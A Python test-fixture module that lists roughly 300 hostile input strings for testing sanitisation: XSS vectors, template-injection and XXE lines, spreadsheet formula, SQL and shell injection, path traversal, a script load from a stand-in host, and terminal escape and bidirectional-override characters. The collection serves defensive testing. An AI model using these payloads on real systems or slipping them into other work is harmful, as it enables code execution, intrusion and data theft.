"""Texts that try to be more than text, of every kind that is known: 300 and some, all our own.

What could run sets `hacked`; what could ask asks `elsewhere.example`, which nobody has.
"""

from __future__ import annotations

RUN = "window.hacked=1"
_LINES = """
<script>RUN</script>
<SCRIPT>RUN</SCRIPT>
<script >RUN</script >
<script/x>RUN</script/y>
</script><script>RUN</script>
</ScRiPt ><script>RUN//
</title><script>RUN</script>
</textarea><script>RUN</script>
</style><script>RUN</script>
</noscript><script>RUN</script>
</template><script>RUN</script>
</select><script>RUN</script>
</svg><script>RUN</script>
</math><script>RUN</script>
</iframe><script>RUN</script>
</xmp><script>RUN</script>
</plaintext><script>RUN</script>
--><script>RUN</script>
--!><script>RUN</script>
]]><script>RUN</script>
]]>]]&gt;<script>RUN</script>
?><script>RUN</script>
%><script>RUN</script>
<scr<script>ipt>RUN</scr</script>ipt>
<<script>RUN//<</script>
<script src=//elsewhere.example/x.js></script>
<script src="data:text/javascript,RUN"></script>
<script type=module>RUN</script>
<script>/*
*/RUN</script>
<!--<script>RUN</script>-->
<!--
-->
<![CDATA[<script>RUN</script>]]>
<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<!ENTITY lol "lol"><!ENTITY l2 "&lol;&lol;">
<?xml version="1.0"?><x/>
<?xml-stylesheet href="javascript:RUN"?>
<?php echo 1; ?>
<% out.print(1) %>
<img src=x onerror=RUN>
<img src=x onerror="RUN">
<img src=x onerror='RUN'>
<img src=x onerror=`RUN`>
<img/src=x/onerror=RUN>
<img src=x:x onerror=RUN //
<IMG SRC=X ONERROR=RUN>
<img src="x` `<script>RUN</script>"` `>
<img src=https://elsewhere.example/a.png>
<img srcset="https://elsewhere.example/a.png 2x">
<img src=javascript:RUN>
<image href=x onerror=RUN>
<svg onload=RUN>
<svg/onload=RUN>
<svg><script>RUN</script></svg>
<svg><script href=data:,RUN /></svg>
<svg><a xlink:href="javascript:RUN"><text>x</text></a></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><set attributeName=onload to=RUN />
<svg><foreignObject><body onload=RUN></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=RUN/>#x"/></svg>
<svg><style>*{background:url(https://elsewhere.example)}</style></svg>
<math><mtext></mtext><mglyph><svg><mtext><style><path id="</style><img src=x onerror=RUN>">
<math href="javascript:RUN">x</math>
<body onload=RUN>
<body onpageshow=RUN>
<html onmouseover=RUN>
<iframe src=javascript:RUN>
<iframe srcdoc="<script>parent.hacked=1</script>">
<iframe onload=RUN>
<frameset onload=RUN>
<object data=javascript:RUN>
<object data="data:text/html,<script>parent.hacked=1</script>">
<embed src=javascript:RUN>
<applet code=x>
<link rel=stylesheet href=https://elsewhere.example/x.css>
<link rel=import href=https://elsewhere.example>
<link rel=prefetch href=https://elsewhere.example>
<meta http-equiv=refresh content="0;url=https://elsewhere.example">
<meta http-equiv=refresh content="0;url=javascript:RUN">
<meta http-equiv=Set-Cookie content="a=b">
<base href=https://elsewhere.example/>
<style>body{display:none}</style>
<style>@import url(https://elsewhere.example/x.css);</style>
<style onload=RUN></style>
<input autofocus onfocus=RUN>
<select autofocus onfocus=RUN>
<textarea autofocus onfocus=RUN>
<keygen autofocus onfocus=RUN>
<button formaction=javascript:RUN>x
<form action=javascript:RUN><input type=submit>
<form id=map><input name=hidden>
<isindex action=javascript:RUN type=image>
<details open ontoggle=RUN>
<video src=x onerror=RUN>
<video><source onerror=RUN></video>
<audio src=x onerror=RUN>
<marquee onstart=RUN>
<table background=javascript:RUN>
<td background=https://elsewhere.example/a>
<div style="background:url(javascript:RUN)">
<div style="width:expression(RUN)">
<div style="position:fixed;inset:0;background:red">
<div onmouseover=RUN style=position:fixed;inset:0>
<p onpointerenter=RUN>
<a href=javascript:RUN>x</a>
<a href="&#106;avascript:RUN">x</a>
<a href="java&Tab;script:RUN">x</a>
<a href=https://elsewhere.example ping=https://elsewhere.example>x</a>
<a id=geomap-data></a>
<img name=createElement>
<noscript><p title="</noscript><img src=x onerror=RUN>">
<template shadowrootmode=open><img src=x onerror=RUN></template>
<dialog open onclose=RUN>
<xss style="animation-name:x" onanimationstart=RUN>
<plaintext>
<xmp>
<listing>
<textarea>
<title>
<select>
<b
<b <i
</
</p>
</main>
</li></ol></section>
</blockquote></article>
<
>
<>
<\x20script>RUN</script>
\x3cscript\x3eRUN\x3c/script\x3e
\\x3cscript\\x3eRUN\\x3c/script\\x3e
\\u003cscript\\u003eRUN\\u003c/script\\u003e
%3Cscript%3ERUN%3C/script%3E
%253Cscript%253E
&lt;script&gt;RUN&lt;/script&gt;
&#60;script&#62;RUN&#60;/script&#62;
&#x3c;script&#x3e;RUN
&amp;lt;script&amp;gt;
&amp;amp;amp;
&
&&
&;
&#
&#0;
&#x110000;
&#xD800;
&nbsp;&zwj;&lrm;
&notit;
+ADw-script+AD4-RUN+ADw-/script+AD4-
" onmouseover="RUN
' onmouseover='RUN
` onmouseover=`RUN
" autofocus onfocus="RUN
"><img src=x onerror=RUN>
'><img src=x onerror=RUN>
"/><svg onload=RUN>
"
'
`
\\
\\"
\\'
\\\\"
"};RUN;//
'];RUN;//
');RUN;//
`);RUN;//
*/RUN/*
//RUN
\\nRUN
\\u0022;RUN//
${RUN}
`${RUN}`
${7*7}
$title
$$
${title}
$policy $head $foot
#{7*7}
{{7*7}}
{{ self.__init__.__globals__ }}
{{ ''.__class__.__mro__[1].__subclasses__() }}
{{ config.items() }}
{{ cycler.__init__.__globals__.os.popen('id').read() }}
{% for x in ().__class__.__bases__ %}{% endfor %}
{% raw %}
{% endraw %}
{% endblock %}
{# never closed
{#3}
{{
}}
{%
%}
{
}
{0}
{0.__class__}
{!r}
%s
%n%n%n%n
%(title)s
%d%%
<%= 7*7 %>
[[7*7]]
[[${7*7}]]
@(7*7)
*{7*7}
__proto__
constructor
toString
hasOwnProperty
prototype
undefined
null
NaN
true
Infinity
-0
[object Object]
function(){RUN}
=1+1
=cmd|'/c calc'!A0
=HYPERLINK("https://elsewhere.example","x")
=WEBSERVICE("https://elsewhere.example")
=IMPORTXML("https://elsewhere.example","//a")
+1+1
-1+1
@SUM(1)
+cmd|'/c calc'!A0
-2+3+cmd|'/c calc'!A0
;=1+1
,=1+1
"=1+1"
'=1+1
''=1+1
|=1+1
%0A=1+1
＝1+1
＋1+1
－1+1
＠SUM(1)
# heading
## heading
* item
- item
1. item
> quote
---
***
```
~~~
    code
| a | b |
|---|---|
| x \\| y |
[x](javascript:RUN)
[x]: javascript:RUN
![x](https://elsewhere.example/a.png)
![x](x "onerror=RUN")
<javascript:RUN>
<https://elsewhere.example>
**bold** __bold__ *em* _em_ `code`
\\*not\\*
~~gone~~
[^1]
:smile:
$$x^2$$
:::danger
.. raw:: html
@import url(https://elsewhere.example/x.css);
}body{display:none}
;background:url(https://elsewhere.example)
expression(RUN)
/*
*/
url(javascript:RUN)
javascript:RUN
JaVaScRiPt:RUN
java\tscript:RUN
 javascript:RUN
vbscript:msgbox(1)
data:text/html,<script>RUN</script>
data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=
blob:https://elsewhere.example/1
file:///etc/passwd
//elsewhere.example/x
\\\\elsewhere.example\\share
https://elsewhere.example/?a=1&b=2#c
https://paper.example@elsewhere.example/
mailto:?body=x
../../../etc/passwd
..\\..\\windows\\win.ini
/dev/null
CON
~root
-rf
--output=x
| id
; id
$(id)
`id`
&& id
'; DROP TABLE raids; --
' OR '1'='1
" OR 1=1 --
1; ATTACH DATABASE 'x' AS y
%' UNION SELECT name FROM sqlite_master --
{"type":"FeatureCollection"}
"}],"features":[{"x":"
</coordinates></Point></Placemark>
</kml><x/>
</name><name>
</text><text>
</desc></svg>
<g/><script>RUN</script>
<tspan>
ﬁﬂ ﷺ ß İ ı ǆ
Ⅷ ½ ² ① 𝟙
Ｆｕｌｌ ｗｉｄｔｈ
ｊａｖａｓｃｒｉｐｔ：
＜script＞RUN＜/script＞
‹script›
рolice
東京 서울 กรุงเทพ ދިވެހި
العربية עברית
👩‍👩‍👧‍👦 🏴󠁧󠁢󠁥󠁮󠁧󠁿 🇬🇧
"""

_SIGNS = {
    "NUL": "a\0b",
    "bell": "a\x07b",
    "backspace": "abc\x08\x08\x08xyz",
    "delete": "a\x7fb",
    "return": "shown\rhidden",
    "vertical tab": "a\x0bb\x0cc",
    "colour": "\x1b[31mred\x1b[0m",
    "clear": "\x1b[2J\x1b[H",
    "title": "\x1b]0;owned\x07",
    "link": "\x1b]8;;https://elsewhere.example\x1b\\link\x1b]8;;\x1b\\",
    "clipboard": "\x1b]52;c;aWQ=\x07",
    "device": "\x1bP+q544e\x1b\\",
    "answer": "\x1b[6n\x1b[c\x1b[21t",
    "charset": "\x1b(0lqk",
    "C1 CSI": "\x9b31mred\x9b0m",
    "C1 OSC": "\x9d0;owned\x9c",
    "C1 DCS": "\x90x\x9c",
    "next line": "a\x85b",
    "escape alone": "\x1b",
    "shift out": "\x0e\x0fabc",
    "override": "abc\u202egnp.exe",
    "embedding": "\u202a\u202babc\u202c",
    "isolates": "\u2066\u2067\u2068abc\u2069",
    "marks": "\u200e\u200f\u061cabc",
    "zero width": "a\u200bb\u200cc\u200dd\ufeffe\u2060f",
    "soft hyphen": "a\u00adb",
    "line separator": f"a\u2028{RUN}\u2029b",
    "no-break": "\u00a0=1+1",
    "space before": " =1+1",
    "newline before": "\n=1+1",
    "return before": "\r\n=1+1",
    "tab before": "\t=1+1",
    "ideographic space": "\u3000=1+1",
    "zero width before": "\u200b=1+1",
    "mark before": "\ufeff=1+1",
    "tab in word": f"java\tscript:{RUN}",
    "newline in word": f"java\nscript:{RUN}",
    "comma": 'a,b;c\td"e',
    "line feeds": "a\nb\n\nc",
    "high surrogate": "a\ud800b",
    "low surrogate": "a\udc00b",
    "byte": "a\udc9bb",
    "not a letter": "a\ufffeb\uffffc\ufdd0",
    "beyond": "a\U0010ffffb\U000e0001c",
    "private": "a\ue000b\U000f0000",
    "combining": "Z" + "\u0301\u0335\u0489" * 40,
    "lone combining": "\u0301",
    "variation": "a\ufe0f\ufe0e",
    "tags": "a\U000e0041\U000e0042\U000e007f",
    "interlinear": "\ufff9a\ufffab\ufffb",
    "music": "\U0001d173a\U0001d17a",
    "long word": "w" * 5_000,
    "long": "Elm Road and " * 800,
    "many marks": "<" * 2_000,
    "many braces": "{{" * 1_000,
    "many quotes": "\"'" * 1_000,
    "many ampersands": "&" * 2_000,
    "spaces": "a" + " " * 3_000 + "b",
    "empty": " ",
    "feeds": "\n" * 500,
}
PAYLOADS: tuple[str, ...] = tuple(
    dict.fromkeys([*filter(None, _LINES.replace("RUN", RUN).split("\n")), *_SIGNS.values()])
)
STEERING = frozenset(chr(code) for code in (*range(32), *range(0x7F, 0xA0)) if chr(code) != "\n")
"""What no command may write to a terminal; a line feed is its own."""
TURNING = frozenset("\u061c\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e")
TURNING |= frozenset("\u2066\u2067\u2068\u2069")
"""What turns the direction of writing, or breaks a line unseen."""
